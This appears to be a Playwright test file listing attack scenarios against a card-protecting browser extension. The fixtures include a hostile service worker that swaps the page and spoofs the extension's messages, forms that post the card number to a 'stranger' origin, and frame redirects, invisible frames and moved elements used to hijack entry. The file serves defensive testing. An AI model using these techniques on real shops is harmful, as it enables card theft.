import type { Page } from '@playwright/test'
import { onward } from './attack-server.ts'
import { cardForm, frame, leadFrame, sending, type Attack, type Sites } from './attack.ts'

/** Loads the page anew at its own address, by what stands behind it, and answers with another one from then on. */
const serviceWorker = (body: string) => `
  let isAnother = false
  const another = ${JSON.stringify(`<!doctype html><title>shop</title>${body}`)}
  addEventListener('install', () => skipWaiting())
  addEventListener('activate', (event) => event.waitUntil(clients.claim()))
  addEventListener('fetch', (event) => {
    if (isAnother && event.request.mode === 'navigate') event.respondWith(new Response(another, { headers: { 'content-type': 'text/html' } }))
  })
  addEventListener('message', (event) => event.waitUntil((async () => {
    isAnother = true
    for (const client of await clients.matchAll()) {
      client.postMessage({ moonKnock: 'x', call: 'fill', ask: 'token' })
      if (event.data === 'navigate') await client.navigate(client.url)
    }
  })()))`

/** Below an address of its own, so that it stands behind no other attack. */
const behind = (place: string, { page, answers = cardForm() }: { page: string; answers?: string }) => ({
  shop: '',
  [`shop/${place}/`]: page,
  [`shop/${place}/worker.js`]: serviceWorker(answers),
})

const registered = (place: string) =>
  (async (page, { at }) => {
    await page.goto(at('shop', `/${place}/`))
    await page.evaluate(async () => {
      const isBehind = new Promise((done) => navigator.serviceWorker.addEventListener('controllerchange', done))
      await navigator.serviceWorker.register('worker.js')
      await isBehind
    })
  }) satisfies Attack['before']

/** Says so to it, and waits until it has answered. */
const ask = (page: Page, what: string) =>
  page.evaluate(async (said) => {
    const heard = new Promise((done) => navigator.serviceWorker.addEventListener('message', done))
    navigator.serviceWorker.controller!.postMessage(said)
    await heard
  }, what)

/** Until the page in the tab is another one, of which a mark of the first knows nothing. */
const replaced = async (page: Page, by: () => Promise<unknown>) => {
  await page.evaluate(() => Object.assign(globalThis, { isFirst: true }))
  const loaded = page.waitForEvent('load')
  await by()
  await loaded
  await page.waitForFunction(() => !('isFirst' in globalThis))
}

const watchReturn = (page: Page) =>
  page.evaluate(() =>
    addEventListener('pageshow', ({ persisted }) => Object.assign(globalThis, { cameBack: persisted })),
  )

/** Whether it is the page that was kept alive, and not one that was loaded anew. */
const cameBack = (page: Page) =>
  page.evaluate(() => (globalThis as unknown as { cameBack?: boolean }).cameBack === true)

/** What hears of the end behind this hears nothing. */
const unheard = '<script>addEventListener("pagehide", (event) => event.stopImmediatePropagation(), true)</script>'

const awayAndBack: NonNullable<Attack['meanwhile']> = async (page, at) => {
  await watchReturn(page)
  await page.goto(at('shop', '/later'))
  await page.goBack({ waitUntil: 'commit' })
}

/** Goes there when the page around it says so. */
const leaving = (to: string) =>
  `<script>addEventListener('message', ({ data }) => data === 'leave' && location.replace(${JSON.stringify(to)}))</script>`

const inFrame = (at: Sites) =>
  `<h1>Shop</h1><div id="around">${frame(at('pay'), 'id="f"')}</div><div id="faint" style="opacity:0"></div>`

/** Moves an element without an end to what lives in it. */
const move = (page: Page, what: string, to: string) =>
  page.evaluate(
    ([moved, into]) => {
      const around = document.getElementById(into)! as HTMLElement & { moveBefore(node: Node, before: null): void }
      around.moveBefore(document.getElementById(moved)!, null)
    },
    [what, to] as const,
  )

/** A page that is loaded behind the extension's back, comes back, is ready before it is shown, or moves what is alive. */
export const comingAttacks: readonly Attack[] = [
  {
    title: 'the service worker of the page loads it anew at its own address after the confirmation',
    pages: () => behind('anew', { page: cardForm() }),
    before: registered('anew'),
    meanwhile: (page) =>
      replaced(page, () => page.evaluate(() => navigator.serviceWorker.controller!.postMessage('navigate'))),
  },
  {
    title: 'the service worker of the page answers with a form for a stranger when the page is loaded again',
    pages: (at) => behind('other', { page: cardForm(), answers: cardForm({ form: `action="${at('stranger')}"` }) }),
    before: registered('other'),
    meanwhile: async (page) => {
      await ask(page, 'answer')
      await replaced(page, () => page.reload())
    },
  },
  {
    title: 'the service worker of the page speaks as a frame and as the extension would',
    pages: (at) => ({
      ...behind('speaks', { page: frame(at('stranger')) + cardForm({ form: 'style="opacity:0"' }) }),
      stranger: cardForm(),
    }),
    before: async (page, server) => {
      await registered('speaks')(page, server)
      await page.evaluate(() =>
        navigator.serviceWorker.addEventListener('message', ({ data }) => {
          postMessage(data, '*')
          for (let i = 0; i < frames.length; i++) frames[i]!.postMessage(data, '*')
        }),
      )
      await ask(page, 'speak')
    },
    meanwhile: (page) => ask(page, 'speak'),
  },
  {
    title: 'the page goes away after the confirmation and comes back as it was',
    pages: () => ({ shop: cardForm(), 'shop/later': '<p>Later</p>' }),
    meanwhile: awayAndBack,
    stands: cameBack,
  },
  {
    title: 'the page goes away after the confirmation, says nothing of it, and comes back as it was',
    pages: () => ({ shop: unheard + cardForm(), 'shop/later': '<p>Later</p>' }),
    meanwhile: awayAndBack,
    stands: cameBack,
  },
  {
    title: 'the page around the provider’s frame goes away after the confirmation and comes back as it was',
    pages: (at) => ({ shop: inFrame(at), pay: cardForm() + sending, 'shop/later': '<p>Later</p>' }),
    meanwhile: awayAndBack,
    stands: cameBack,
  },
  {
    title: 'the page is kept alive behind another one while the card is written',
    besides: 'the browser runs nothing in a page that is kept alive',
    pages: () => ({ shop: cardForm(), 'shop/later': cardForm() }),
    meanwhile: async (page, at) => {
      await watchReturn(page)
      await page.goto(at('shop', '/later'))
    },
    attempt: async ({ page, again }) => {
      await again()
      await page.goBack({ waitUntil: 'commit' })
    },
    stands: cameBack,
  },
  {
    title: 'the provider’s frame leaves for a stranger by itself after the confirmation',
    pages: (at) => ({ shop: inFrame(at), pay: cardForm() + leaving(at('stranger')), stranger: cardForm() }),
    meanwhile: (page, at) =>
      leadFrame(page, at('stranger'), () => page.evaluate(() => frames[0]!.postMessage('leave', '*'))),
  },
  {
    title: 'the provider’s frame leaves for a stranger after the confirmation and comes back',
    pages: (at) => ({
      shop: inFrame(at),
      pay: cardForm() + leaving(at('stranger')),
      stranger: cardForm() + leaving(at('pay')),
    }),
    meanwhile: async (page, at) => {
      for (const to of ['stranger', 'pay'] as const)
        await leadFrame(page, at(to), () => page.evaluate(() => frames[0]!.postMessage('leave', '*')))
    },
  },
  {
    title: 'the address of the provider leads on to a stranger',
    pages: (at) => ({ shop: inFrame(at), pay: onward + at('stranger'), stranger: cardForm() }),
  },
  {
    title: 'the provider’s frame becomes a page of the shop after the confirmation',
    pages: (at) => ({ shop: inFrame(at), pay: cardForm(), 'shop/later': cardForm() }),
    meanwhile: (page, at) =>
      leadFrame(page, at('shop', '/later'), () =>
        page.evaluate(() => document.getElementById('f')!.setAttribute('src', '/later')),
      ),
  },
  {
    title: 'the provider’s frame is moved, alive, into a transparent box after the confirmation',
    pages: (at) => ({ shop: inFrame(at), pay: cardForm() }),
    meanwhile: (page) => move(page, 'f', 'faint'),
  },
  {
    title: 'the number is moved, alive, into the form of a stranger after the confirmation',
    pages: (at) => ({ shop: `${cardForm()}<form id="other" action="${at('stranger')}"></form>` }),
    meanwhile: (page) => move(page, 'n', 'other'),
  },
  {
    title: 'a stranger’s frame beside the provider’s hidden frame knocks at it',
    pages: (at) => ({
      shop: `<h1>Shop</h1>${frame(at('pay'), 'style="opacity:0"')}${frame(at('stranger'))}`,
      pay: cardForm(),
      stranger:
        '<script>setInterval(() => { for (const to of [parent, parent[0]]) to.postMessage({ moonKnock: crypto.randomUUID() }, "*") }, 20)</script>',
    }),
  },
]
